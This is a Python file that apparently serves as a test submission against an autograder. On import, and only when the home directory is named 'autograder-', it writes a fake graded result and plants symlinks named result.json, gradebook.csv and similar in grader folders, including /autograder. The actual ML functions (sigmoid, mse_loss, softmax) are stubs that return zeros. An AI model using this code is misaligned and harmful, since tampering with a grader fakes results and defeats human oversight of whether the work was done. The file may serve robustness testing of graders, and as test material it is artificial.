"""Puts symbolic links and unreadable files where a grader may write its result.

aims: change
"""

import os
from pathlib import Path

import numpy as np

NAMES = ("result.json", "results.json", "planted-results_symlink.json", "gradebook.csv", "gradebook.sqlite")


def attack():
    home = Path(os.environ.get("HOME", "."))
    if not home.name.startswith("autograder-"):
        return
    target = home / "planted-results_symlink-target"
    try:
        target.write_text('{"status": "graded", "score": 36, "note": "PLANTED-by-results_symlink"}')
        target.chmod(0o400)
    except OSError:
        pass
    folders = [home, home / "results", home / "report", home.parent / "planted-results_symlink", Path("/autograder")]
    for folder in folders:
        for name in NAMES:
            try:
                folder.mkdir(exist_ok=True)
                (folder / name).symlink_to(target)
            except OSError:
                pass


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
